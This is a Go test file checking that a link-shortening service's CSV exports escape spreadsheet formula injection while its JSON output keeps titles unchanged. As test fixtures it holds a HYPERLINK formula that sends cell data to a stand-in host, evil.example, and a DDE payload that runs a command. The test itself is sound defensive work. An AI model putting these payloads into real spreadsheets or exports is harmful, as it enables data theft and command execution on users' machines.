package main

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hutong-dev/hutong/internal/config"
)

// TestCSVFormulaGuardAPI (a real listener): every CSV the API writes —
// the links export, a link's stats, the click events, the bulk import's
// answer — writes a text cell that starts with = + - @ with a leading
// quote (a spreadsheet shows it as text instead of running it), and its
// counts as plain numbers; JSON answers keep the values as they are.
func TestCSVFormulaGuardAPI(t *testing.T) {
	m, base := testMain(t, func(c *config.Serve) { c.InitialAPIKey = adminKey; c.EventFlushInterval = 20 * time.Millisecond })
	const title = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	const camp = "+cmd|' /C calc'!A0"
	if a := api(t, "POST", base+"/api/v1/links", map[string]any{"target": itemTaobao, "alias": "-gu1", "title": title,
		"campaign": camp, "tags": []string{"@SUM(A1)", "ok"}}); a.Status != 201 {
		t.Fatalf("create: %d %s", a.Status, a.Body)
	}
	if g := get(t, base+"/-gu1?from=groupmessage", corpusUA(t, "wechat/ios")); g.Status != 302 {
		t.Fatalf("tap: %d", g.Status)
	}
	waitEvents(t, m, 1)
	waitClicks(t, base, "-gu1", 1)

	rows := func(name, path string, hdr map[string]string, body string) [][]string {
		t.Helper()
		h := map[string]string{"Authorization": "Bearer " + adminKey}
		for k, v := range hdr {
			h[k] = v
		}
		method := "GET"
		if body != "" {
			method = "POST"
		}
		r := do(t, method, base+path, h, strings.NewReader(body))
		if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("%s: %d %v %s", name, r.Status, r.Header, r.Body)
		}
		recs, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
		if err != nil || len(recs) < 2 {
			t.Fatalf("%s: %v %q", name, err, r.Body)
		}
		return recs
	}
	cell := func(recs [][]string, row int, col string) string {
		i := slices.Index(recs[0], col)
		if i < 0 || row >= len(recs) {
			t.Fatalf("no %s in row %d of %q", col, row, recs)
		}
		return recs[row][i]
	}

	links := rows("links export", "/api/v1/links?format=csv", nil, "")
	for col, want := range map[string]string{"code": "'-gu1", "title": "'" + title, "campaign": "'" + camp, "tags": "'@SUM(A1);ok",
		"clicks": "1", "max_clicks": "0", "entity_id": "541989840451", "status": "active"} {
		if got := cell(links, 1, col); got != want {
			t.Errorf("links export: %s = %q; want %q", col, got, want)
		}
	}

	ev := rows("events export", "/api/v1/events?format=csv", nil, "")
	for col, want := range map[string]string{"code": "'-gu1", "campaign": "'" + camp, "bot": "false", "scene": "group"} {
		if got := cell(ev, 1, col); got != want {
			t.Errorf("events export: %s = %q; want %q", col, got, want)
		}
	}

	st := rows("stats", "/api/v1/links/-gu1/stats?format=csv&by=day", nil, "")
	last := len(st) - 1
	if cell(st, last, "start") != "total" || cell(st, last, "human") != "1" || cell(st, last, "app:wechat") != "1" {
		t.Errorf("stats csv: %q; want a total row of plain counts", st)
	}

	bulk := rows("bulk answer", "/api/v1/links/bulk", map[string]string{"Content-Type": "text/csv", "Accept": "text/csv"},
		"target,title\n"+"=1+1,x\n"+itemTaobao+",-2+3\n")
	if got := cell(bulk, 1, "target"); got != "'=1+1" {
		t.Errorf("bulk answer: target %q; want '=1+1", got)
	}
	if got := cell(bulk, 1, "row"); got != "1" {
		t.Errorf("bulk answer: row %q; want the number 1", got)
	}
	if got := cell(bulk, 2, "error"); got != "" {
		t.Errorf("bulk answer: row 2 error %q; want none", got)
	}

	// JSON is not a spreadsheet: the title stays as it was given.
	if a := api(t, "GET", base+"/api/v1/links/-gu1", nil); a.Status != 200 || !strings.Contains(a.Body, `"title":"=HYPERLINK(`) {
		t.Errorf("link JSON: %d %.300s; want the title unchanged", a.Status, a.Body)
	}
}
